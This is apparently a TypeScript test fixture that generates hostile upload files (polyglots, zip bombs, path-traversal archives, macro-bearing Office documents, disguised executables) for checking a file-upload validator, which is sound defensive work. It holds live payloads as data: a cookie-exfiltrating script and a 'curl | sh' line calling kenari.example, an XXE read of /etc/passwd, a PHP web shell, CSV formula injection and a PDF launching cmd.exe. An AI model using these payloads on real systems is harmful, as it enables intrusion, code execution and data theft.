// Files that are not what they say, or are it and more: programs, pages, bombs, archives and half files, each under every type that may be announced.
import { DOCX, docxParts, ODS, ODT, odfParts, ooxmlParts, type Part, XLSX, xlsxParts, zipOf } from './office.ts';

export interface HostileFile {
  name: string;
  contentType: string;
  bytes: Buffer;
  /** Its first bytes are what it says: it is kept, and given out as this type, to be saved and not shown. */
  isAsSaid: boolean;
}

const [PDF, JPEG, PNG] = ['application/pdf', 'image/jpeg', 'image/png'];
const TYPES = [PDF, JPEG, PNG, DOCX, XLSX, ODT, ODS];
const text = (content: string): Buffer => Buffer.from(content);
const bytes = (hex: string, more = ''): Buffer => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(more)]);

/** Put together here, so that no scanner takes this very file for one. */
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const SCRIPT = '<script>fetch("//kenari.example?"+document.cookie)</script>';

/** What is none of the types, whatever it is announced as. */
const NONE: Readonly<Record<string, Buffer>> = {
  'a program for Windows': bytes('4d5a9000', 'This program cannot be run in DOS mode'),
  'a program for Linux': bytes('7f454c46020101'),
  'a script': text('#!/bin/sh\ncurl kenari.example | sh\n'),
  'a page': text(`<!doctype html><title>x</title>${SCRIPT}`),
  'a picture that runs': text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
  'XML with an entity': text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  EICAR: text(EICAR),
  'a single byte': bytes('00'),
  'nothing but NUL': Buffer.alloc(4_096),
  'a mark of byte order before a PDF': bytes('efbbbf', '%PDF-1.7'),
  'a space before a PDF': text(' %PDF-1.7'),
  'a PDF after a page': text(`<html>${SCRIPT}</html>\n%PDF-1.7`),
  'half a signature': text('%PD'),
  'half a picture’s signature': bytes('ffd8'),
  'a GIF that is a script': text('GIF89a=1;alert(1)//'),
  'an archive 7z': bytes('377abcaf271c0004'),
  'an archive RAR': bytes('526172211a0701'),
  'packed once more': bytes('1f8b0800000000000003'),
  'an old document with macros': bytes('d0cf11e0a1b11ae1'),
  'a sheet that runs a formula': text('Nama;Nilai\n=HYPERLINK("http://kenari.example","x");+1\n@SUM(1);-2+cmd|\' /C calc\'!A0\n'),
  'a line without end': text('a'.repeat(1_000_000)),
  'UTF-16': Buffer.from('\ufeffLaporan', 'utf16le'),
  PHP: text('<?php system($_GET["c"]); ?>'),
  'a ZIP of nothing': zipOf([]),
  'a ZIP of a program': zipOf([{ name: 'laporan.exe', text: 'MZ' }]),
};

const spoilt = (good: (more?: string) => Part[], ...more: Part[]): Buffer => zipOf([...good(), ...more]);
const MANY: Part[] = Array.from({ length: 5_001 }, (_, i) => ({ name: `word/${i}.xml`, text: '' }));

/** Office files that are more than that; of each type its own, and of the others'. */
function office(type: string): Record<string, Buffer> {
  const good = { [DOCX]: docxParts, [XLSX]: xlsxParts, [ODT]: () => odfParts(ODT), [ODS]: () => odfParts(ODS) }[type];
  if (!good) return {};
  const whole = zipOf(good());
  return {
    'with macros': spoilt(good, { name: 'word/vbaProject.bin', text: 'x' }, { name: 'Basic/Standard/x.xml', text: 'x' }),
    'with macros in capitals': spoilt(good, { name: 'xl/VBAPROJECT.BIN', text: 'x' }),
    'with a macro sheet': spoilt(good, { name: 'xl/macrosheets/sheet1.xml', text: 'x' }),
    'with ActiveX': spoilt(good, { name: 'word/activeX/activeX1.xml', text: 'x' }),
    'with scripts': spoilt(good, { name: 'Scripts/python/x.py', text: 'x' }),
    'that leads out': spoilt(good, { name: '../../etc/cron.d/x', text: 'x' }),
    'that leads to a root': spoilt(good, { name: '/etc/passwd', text: 'x' }),
    'that leads to a drive': spoilt(good, { name: 'C:\\Windows\\x', text: 'x' }),
    'with a NUL in a name': spoilt(good, { name: 'word/x\u0000.xml', text: 'x' }),
    'with a member twice': spoilt(good, ...good().slice(0, 1)),
    'with a member twice in another case': spoilt(
      good,
      ...good()
        .slice(-1)
        .map((part) => ({ ...part, name: part.name.toUpperCase() })),
    ),
    'that is locked': zipOf(good().map((part) => ({ ...part, locked: true }))),
    'that claims to be a bomb': spoilt(good, { name: 'word/x.xml', text: 'x', claims: 0xfffffff0 }),
    'that is a bomb': spoilt(good, { name: 'word/x.xml', text: '0'.repeat(20_000_000), claims: 0xfffffff0 }),
    'of a label without end': zipOf([{ ...(good()[0] as Part), stored: false, text: 'x'.repeat(3_000_000) }, ...good().slice(1)]),
    'of too many members': spoilt(good, ...MANY),
    cut: whole.subarray(0, whole.length - 10),
    'without its directory': whole.subarray(0, 60),
    'of another type': zipOf(type === XLSX ? docxParts() : xlsxParts()),
    'without a label': zipOf(good().slice(1)),
    'without its main part': zipOf(good().slice(0, 1)),
    'that says it has macros': zipOf(ooxmlParts('application/vnd.ms-word.document.macroEnabled', 'word/document.xml')),
  };
}

/** One file and another at once: what it says comes first. */
const MORE: readonly [name: string, type: string, content: Buffer][] = [
  ['a PDF that runs a script', PDF, text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')],
  ['a PDF that starts a program', PDF, text('%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
  ['a PDF that is a page', PDF, text(`%PDF-1.7\n${SCRIPT}`)],
  ['a PDF that ends as a ZIP', PDF, Buffer.concat([text('%PDF-1.7\n'), zipOf([{ name: 'x.exe', text: 'MZ' }])])],
  ['a PDF of its head alone', PDF, text('%PDF-')],
  ['a picture with PHP', JPEG, bytes('ffd8ffe0', '<?php system($_GET["c"]); ?>')],
  ['a picture that ends as a ZIP', JPEG, Buffer.concat([bytes('ffd8ffe0'), zipOf([{ name: 'x.exe', text: 'MZ' }])])],
  ['a picture that is a page', PNG, bytes('89504e470d0a1a0a', SCRIPT)],
];

export const hostileFiles = (): HostileFile[] => [
  ...TYPES.flatMap((contentType) =>
    Object.entries({ ...NONE, ...office(contentType) }).map(([name, content]) => ({ name, contentType, bytes: content, isAsSaid: false })),
  ),
  ...MORE.flatMap(([name, type, content]) =>
    TYPES.map((contentType) => ({ name, contentType, bytes: content, isAsSaid: contentType === type })),
  ),
];
